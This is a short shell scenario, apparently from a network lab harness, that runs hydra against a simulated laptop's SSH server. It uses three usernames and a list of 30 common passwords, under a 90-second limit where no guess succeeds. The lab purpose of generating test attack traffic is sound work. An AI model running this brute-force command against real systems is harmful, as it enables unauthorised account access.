# Attack: SSH password guessing from the attacker against the laptop's sshd (3 users x
# 30 passwords, 4 parallel tasks, bounded to 90 s; no guess is right).
DESCRIPTION="hydra ssh://laptop, 3 users x 30 passwords"

scenario() {
    cd "$STATE" || exit 1 # hydra writes hydra.restore into the working directory
    printf '%s\n' root admin pi >"$STATE/users.txt"
    printf '%s\n' 123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 \
        dragon 123123 baseball abc123 football monkey letmein 696969 shadow master 666666 \
        qwertyuiop 123321 mustang 1234567890 michael 654321 superman 1qaz2wsx 7777777 \
        raspberry >"$STATE/passwords.txt"
    nsx attacker timeout 90 hydra -I -q -t 4 -w 5 -L "$STATE/users.txt" -P "$STATE/passwords.txt" \
        "ssh://$RES_laptop" >"$STATE/log/hydra-ssh.txt" 2>&1 || true
}
